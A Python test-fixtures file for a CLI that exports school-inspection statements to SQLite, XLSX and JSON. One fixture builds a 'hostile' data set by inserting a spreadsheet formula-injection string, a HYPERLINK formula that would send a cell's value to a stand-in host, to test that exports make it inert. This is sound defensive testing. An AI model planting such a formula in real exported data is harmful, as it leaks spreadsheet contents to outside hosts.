"""Exports made once per session (the shipped data, and a small data set with hostile text)."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from ofsted_cli.export import run
from tests.conftest import DATA, TESTS

VALID = TESTS / "data" / "valid"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1, "report")'
"""A statement that a spreadsheet would run, were it not made inert."""
Exporter = Callable[[str], Path]


def _exporter(data_dir: Path, folder: Path) -> Exporter:
    made: dict[str, Path] = {}

    def export(fmt: str) -> Path:
        if fmt not in made:
            name = {"sqlite": "ofsted.sqlite", "xlsx": "ofsted.xlsx", "json": "ofsted.json"}
            out = folder / name.get(fmt, fmt)
            run.export(data_dir, fmt, out)
            made[fmt] = out
        return made[fmt]

    return export


@pytest.fixture(scope="session")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Exporter:
    """Export the shipped data (once per format per session); return the path written."""
    return _exporter(DATA, tmp_path_factory.mktemp("shipped"))


def make_hostile(folder: Path) -> Path:
    """Fill *folder* with the valid test data set, one statement beginning like a spreadsheet
    formula."""
    folder.mkdir(parents=True, exist_ok=True)
    for path in VALID.glob("*.yaml"):
        shutil.copy(path, folder / path.name)
    statements = folder / "statements.yaml"
    text = statements.read_text(encoding="utf-8")
    first_text = next(line for line in text.splitlines() if line.strip().startswith("text:"))
    indent = first_text[: len(first_text) - len(first_text.lstrip())]
    quoted = "'" + FORMULA.replace("'", "''") + "'"
    statements.write_text(text.replace(first_text, f"{indent}text: {quoted}", 1), encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The valid test data set with a statement that begins like a spreadsheet formula."""
    return make_hostile(tmp_path_factory.mktemp("hostile-data"))


@pytest.fixture(scope="session")
def hostile(hostile_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Exporter:
    """Export the hostile data set (once per format per session)."""
    return _exporter(hostile_data, tmp_path_factory.mktemp("hostile"))
